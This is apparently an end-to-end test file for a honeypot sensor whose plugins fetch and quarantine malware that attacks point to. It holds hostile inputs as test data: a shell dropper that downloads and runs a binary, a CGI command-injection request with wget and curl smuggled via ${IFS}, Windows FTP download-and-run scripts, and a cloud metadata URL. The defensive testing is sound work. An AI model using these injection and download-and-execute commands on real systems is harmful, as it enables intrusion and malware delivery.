import type { ChildProcess } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { NetnsPair } from '../../src/netns/netns-pair.js'
import { runAttackPlan } from '../../src/netns/sensor-process.js'
import { isRoot, readRows, waitFor } from '../helpers/netns-env.js'
import { startSensorFixture, type SensorFixture } from '../helpers/sensor-fixture.js'

// The plugins end to end: the real sensor in its namespace runs its pipeline process; the attack names servers that
// this test starts in the attacker's namespace (Debian's python3 http.server, openssl s_server, pyftpdlib, in.tftpd);
// the downloaders fetch from them through the real network path, the NFQUEUE rule included.

interface DownloadRow {
  url: string
  plugin: string
  outcome: string
  reason: string | null
  address: string | null
  bytes: number
  sha256: string | null
}

const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex')
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3' // Debian's, which sees python3-pyftpdlib
const FTP_SERVER = join(import.meta.dirname, '..', 'helpers', 'ftp-server.py')

/** A server in the attacker's namespace, resolved once it printed `ready` (a regexp on its output). */
async function startServer(pair: NetnsPair, file: string, args: string[], ready: RegExp, cwd?: string): Promise<{ child: ChildProcess; output: () => string }> {
  const child = pair.spawn(pair.attackerNs, file, args, { stdio: ['pipe', 'pipe', 'pipe'], ...(cwd !== undefined && { cwd }) })
  let output = ''
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`${file} not ready within 10 s: ${output}`)), 10_000)
    const onData = (chunk: Buffer): void => {
      output += chunk.toString()
      if (ready.test(output)) {
        clearTimeout(timer)
        resolve()
      }
    }
    child.stdout?.on('data', onData)
    child.stderr?.on('data', onData)
    child.once('exit', (code) => {
      clearTimeout(timer)
      reject(new Error(`${file} exited (${code}) before it was ready: ${output}`))
    })
  })
  return { child, output: () => output }
}

function downloads(dbPath: string): DownloadRow[] {
  return readRows<DownloadRow>(dbPath, 'SELECT url, plugin, outcome, reason, address, bytes, sha256 FROM downloads ORDER BY id')
}

/** The pids of the sensor's children (the pipeline process is one: `nice` execs node in place). */
function childrenOf(pid: number): number[] {
  const text = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim()
  return text === '' ? [] : text.split(/\s+/).map(Number)
}

/** The nice value of every thread of `pid` (field 19 of /proc/PID/task/TID/stat). */
function threadNiceValues(pid: number): number[] {
  return readdirSync(`/proc/${pid}/task`).map((tid) => {
    const stat = readFileSync(`/proc/${pid}/task/${tid}/stat`, 'utf8')
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[16])
  })
}

/** An x86-64 ELF executable header followed by random bytes: typed as ELF, and without any URL in it to follow. */
function minimalElf(): Buffer {
  const header = Buffer.alloc(64)
  header.write('\x7fELF', 0, 'latin1')
  header[4] = 2 // 64-bit
  header[5] = 1 // little-endian
  header[6] = 1 // ELF version
  header.writeUInt16LE(2, 16) // ET_EXEC
  header.writeUInt16LE(0x3e, 18) // x86-64
  header.writeUInt32LE(1, 20)
  header.writeUInt16LE(64, 52) // e_ehsize
  return Buffer.concat([header, randomBytes(4096).map((b) => b & 0x7f & ~0x20)]) // no ':' or '/' runs to read as URLs
}

/** An RFB KeyEvent message: type 4, down flag, two bytes of padding, the X keysym. */
function keyEvent(keysym: number, down: boolean): Buffer {
  const message = Buffer.alloc(8)
  message[0] = 4
  message[1] = down ? 1 : 0
  message.writeUInt32BE(keysym, 4)
  return message
}

// On NFQUEUE the FTP server's active-mode data connection comes back through the capture rule (not queued: it is an
// answer to the pipeline's own PORT); on eBPF through the sk_lookup program, which must leave the pipeline's data port
// and its TFTP reply port to them from their bind (the bind watch), not steer them into the sensor.
describe.skipIf(!isRoot).each([['nfqueue'], ['ebpf']] as const)('plugins end to end on monitor %s: downloads from servers in the attacker namespace', (monitor) => {
  let fx: SensorFixture
  let pair: NetnsPair
  const servers: ChildProcess[] = []
  const files: Record<string, Buffer> = {}
  let ftpPort = 0 // passive and active allowed: the default mode uses passive
  let ftpActivePort = 0 // refuses PASV and EPSV: only the fallback to active mode gets the file
  let dataDir = ''

  beforeAll(async () => {
    fx = await startSensorFixture({
      label: `plugins-${monitor}`,
      configYaml: [
          `monitor: { type: ${monitor} }`,
          'store: { batchWindowMs: 50 }',
          'responder: { idleTimeoutMs: 1000 }',
          'plugins:',
          '  pollIntervalMs: 50',
          '  timeoutMs: 20000',
          // The namespaces' ranges are non-public: allowed here, as a lab would allow its own servers.
          "  downloads: { allow: ['198.18.0.0/15', 'fd00:4855::/32'], timeoutMs: 10000, maxBytes: 1048576 }",
          '  list:',
          '    - name: b64Decode',
          '    - name: vncDownload',
          '    - { name: httpDownload, options: { followSamples: true } }',
          // The default mode, passive then active: one FTP server below refuses passive mode, so both are used, and the
          // active one has the server connect back into the sensor's namespace, through its NFQUEUE rule.
          '    - name: ftpDownload',
          '    - name: tftpDownload',
          '    - name: fileType',
          '    - name: fuzzyHash',
          '    - name: saveFile',
          '    - name: logAttacker',
          '',
      ].join('\n'),
    })
    pair = fx.pair
    dataDir = fx.dir // plugins.dataDir defaults to the database's directory

    const www = join(fx.dir, 'www')
    mkdirSync(www)
    files['stage1.sh'] = Buffer.from(`#!/bin/sh\ncd /tmp || cd /var/run\nwget http://${pair.attackerV4}:8080/stage3.bin -O s3; chmod +x s3; ./s3\n`)
    files['stage2.bin'] = minimalElf() // an ELF the fileType plugin names (built here: a real binary holds URLs)
    files['stage3.bin'] = randomBytes(50_000)
    files['mal.exe'] = randomBytes(70_000) // 137 TFTP blocks
    files['drop.exe'] = randomBytes(30_000)
    files['drop2.exe'] = randomBytes(20_000)
    files['typed.bin'] = randomBytes(10_000)
    for (const [name, data] of Object.entries(files)) writeFileSync(join(www, name), data)
    copyFileSync(join(www, 'stage2.bin'), join(www, 'stage2.copy'))

    const cert = join(fx.dir, 'cert.pem')
    const key = join(fx.dir, 'key.pem')
    await pair.exec(pair.attackerNs, 'openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=dropper.invalid'])
    servers.push((await startServer(pair, PYTHON, ['-u', '-m', 'http.server', '8080', '--bind', pair.attackerV4, '--directory', www], /Serving HTTP/)).child)
    servers.push((await startServer(pair, 'openssl', ['s_server', '-accept', `${pair.attackerV4}:8443`, '-cert', cert, '-key', key, '-WWW'], /ACCEPT/, www)).child)
    const ftp = await startServer(pair, PYTHON, [FTP_SERVER, www, pair.attackerV4], /^\d+\s/m)
    servers.push(ftp.child)
    ftpPort = Number(/^(\d+)/m.exec(ftp.output())?.[1])
    const ftpActive = await startServer(pair, PYTHON, [FTP_SERVER, www, pair.attackerV4, '--no-passive'], /^\d+\s/m)
    servers.push(ftpActive.child)
    ftpActivePort = Number(/^(\d+)/m.exec(ftpActive.output())?.[1])
    const tftpd = pair.spawn(pair.attackerNs, 'in.tftpd', ['--foreground', '--secure', '--address', `${pair.attackerV4}:69`, www], { stdio: 'ignore' })
    servers.push(tftpd)
    await new Promise((r) => setTimeout(r, 300)) // in.tftpd prints nothing; the client's retransmission covers a late bind
  }, 60_000)

  afterAll(async () => {
    for (const s of servers) if (s.pid !== undefined && s.exitCode === null) process.kill(s.pid, 'SIGKILL')
    await fx?.teardown()
  })

  it('fetches what one attack points at over HTTP, HTTPS, FTP (passive and active) and TFTP, follows a dropper to its next stage, and refuses the forbidden targets', async () => {
    const A = pair.attackerV4
    const S = pair.sensorV4
    const ftpScript = `cmd /c echo open ${A} ${ftpPort} > o&echo user anonymous x >> o&echo binary >> o&echo get drop.exe >> o&echo quit >> o&ftp -n -s:o&drop.exe`
    const ftpActiveScript = `cmd /c echo open ${A} ${ftpActivePort}>p&echo user anonymous x>>p&echo get drop2.exe>>p&echo bye>>p&ftp -n -s:p`
    const request = [
      `GET /cgi-bin/;cd\${IFS}/tmp;wget\${IFS}http://${A}:8080/stage1.sh;curl\${IFS}-k\${IFS}https://${A}:8443/stage2.bin HTTP/1.1`,
      `Host: ${S}`,
      `X-Tftp: tftp -i ${A} GET mal.exe`,
      `X-Ftp: ${ftpScript}`,
      `X-Ftp-Active: ${ftpActiveScript}`,
      // Encoded: found only after b64Decode decoded it.
      `X-Data: ${Buffer.from(`wget http://${A}:8080/stage2.copy`).toString('base64')}`,
      `X-Bad: wget http://10.0.0.1/a.sh; wget http://169.254.169.254/latest/meta-data/; wget http://${S}:8080/own.sh`,
      '',
      '',
    ].join('\r\n')
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: S, port: 80, send: request, halfClose: true, waitMs: 2_000 }])
    expect(result?.['connected']).toBe(true)

    const expected = [`http://${A}:8080/stage1.sh`, `https://${A}:8443/stage2.bin`, `http://${A}:8080/stage3.bin`, `http://${A}:8080/stage2.copy`, `tftp://${A}:69/mal.exe`, `ftp://${A}:${ftpPort}/drop.exe`, `ftp://${A}:${ftpActivePort}/drop2.exe`]
    const rows = await waitFor(() => downloads(fx.dbPath), (r) => expected.every((url) => r.some((d) => d.url === url)), 30_000)
    // Nothing but the servers of this test and the three refused targets was ever named.
    expect(rows.map((r) => r.url).sort()).toEqual([...expected, 'http://10.0.0.1/a.sh', 'http://169.254.169.254/latest/meta-data/', `http://${S}:8080/own.sh`].sort())
    const byUrl = new Map(rows.map((r) => [r.url, r]))
    const expectOk = (url: string, file: string, plugin: string): void => {
      expect(byUrl.get(url), `${url} in ${JSON.stringify(rows)}`).toMatchObject({ outcome: 'ok', plugin, sha256: sha256(files[file] ?? readFileSync(join(fx.dir, 'www', file))), bytes: (files[file] ?? readFileSync(join(fx.dir, 'www', file))).length })
    }
    expectOk(`http://${A}:8080/stage1.sh`, 'stage1.sh', 'httpDownload')
    expectOk(`https://${A}:8443/stage2.bin`, 'stage2.bin', 'httpDownload')
    expectOk(`http://${A}:8080/stage3.bin`, 'stage3.bin', 'httpDownload') // named by the downloaded stage1.sh
    expectOk(`http://${A}:8080/stage2.copy`, 'stage2.copy', 'httpDownload') // named in base64
    expectOk(`tftp://${A}:69/mal.exe`, 'mal.exe', 'tftpDownload')
    expectOk(`ftp://${A}:${ftpPort}/drop.exe`, 'drop.exe', 'ftpDownload') // passive
    expectOk(`ftp://${A}:${ftpActivePort}/drop2.exe`, 'drop2.exe', 'ftpDownload') // passive refused: active
    for (const url of ['http://10.0.0.1/a.sh', 'http://169.254.169.254/latest/meta-data/', `http://${S}:8080/own.sh`]) {
      expect(byUrl.get(url), url).toMatchObject({ outcome: 'refused', address: null, bytes: 0 })
    }
    expect(byUrl.get(`http://${S}:8080/own.sh`)?.reason).toMatch(/sensor's own/)

    // Each sample once in the quarantine, by digest, owner-read-only and not executable.
    const samples = readRows<{ sha256: string; path: string; size: number }>(fx.dbPath, 'SELECT sha256, path, size FROM samples')
    expect(samples.length).toBeGreaterThanOrEqual(6)
    for (const s of samples) {
      expect(sha256(readFileSync(s.path))).toBe(s.sha256)
      expect(statSync(s.path).mode & 0o777).toBe(0o400)
    }
    // The ELF fetched over HTTPS was typed; the pipeline recorded no failure.
    const elf = await waitFor(
      () => readRows<{ match_key: string }>(fx.dbPath, "SELECT match_key FROM artifacts WHERE kind = 'file-type' AND subject_sha256 = ?", sha256(files['stage2.bin']!)),
      (r) => r.length > 0,
      10_000,
    )
    expect(elf[0]?.match_key).toBe('elf')
    expect(readRows(fx.dbPath, "SELECT plugin, status, error FROM plugin_runs WHERE status != 'ok'")).toEqual([])
    // saveFile and logAttacker wrote under the data directory.
    const line = await waitFor(() => (existsSync(join(dataDir, 'attackers.jsonl')) ? readFileSync(join(dataDir, 'attackers.jsonl'), 'utf8') : ''), (t) => t.includes('"dport":80'), 10_000)
    expect(JSON.parse(line.trim().split('\n')[0]!)).toMatchObject({ src: pair.attackerV4, dport: 80 })
    expect(readdirSync(join(dataDir, 'saved')).length).toBeGreaterThan(0)
  }, 60_000)

  it('rebuilds what an attacker types into a VNC session and fetches the URL typed', async () => {
    const url = `http://${pair.attackerV4}:8080/typed.bin`
    // The client's side of an RFB 3.8 session: version, security type None, ClientInit, then key presses.
    const keys = [...`wget ${url}`].map((c) => c.charCodeAt(0)).concat([0xff0d]) // ...then Return
    const events = keys.flatMap((keysym) => [keyEvent(keysym, true), keyEvent(keysym, false)])
    const session = Buffer.concat([Buffer.from('RFB 003.008\n'), Buffer.from([1, 1]), ...events])
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 5900, sendBase64: session.toString('base64'), halfClose: true, waitMs: 1_500 }])
    expect(result?.['connected']).toBe(true)
    const rows = await waitFor(() => downloads(fx.dbPath), (r) => r.some((d) => d.url === url), 20_000)
    expect(rows.find((d) => d.url === url)).toMatchObject({ outcome: 'ok', sha256: sha256(files['typed.bin']!) })
    const typed = readRows<{ data: Buffer; info: string }>(fx.dbPath, "SELECT data, info FROM artifacts WHERE kind = 'decoded' AND info LIKE '%vncDownload:typed%'")
    expect(typed.map((t) => t.data.toString())).toContain(`wget ${url}\n`)
  }, 30_000)

  it('runs the pipeline at the lowest priority, and restarts it when it is killed while the sensor keeps serving', async () => {
    const pid = fx.sensor!.pid
    const [pipelinePid] = childrenOf(pid)
    expect(pipelinePid).toBeDefined()
    expect(new Set(threadNiceValues(pipelinePid!))).toEqual(new Set([19]))
    expect(new Set(threadNiceValues(pid))).toEqual(new Set([0]))

    process.kill(pipelinePid!, 'SIGKILL')
    await fx.sensor!.waitFor((l) => l.msg === 'plugin pipeline exited, restarting', 5_000)
    // Attacked while the pipeline is down: the sensor answers and stores; the new pipeline catches up.
    const url = `http://${pair.attackerV4}:8080/stage3.bin?after-restart`
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 8081, send: `GET /?u=${Buffer.from(`curl ${url}`).toString('base64')} HTTP/1.0\r\n\r\n`, halfClose: true, waitMs: 1_500 }])
    expect(result?.['connected']).toBe(true)
    const rows = await waitFor(() => downloads(fx.dbPath), (r) => r.some((d) => d.url === url), 20_000)
    expect(rows.find((d) => d.url === url)).toMatchObject({ outcome: 'ok', sha256: sha256(files['stage3.bin']!) })
    const [next] = childrenOf(pid)
    expect(next).toBeDefined()
    expect(next).not.toBe(pipelinePid)
  }, 60_000)
})
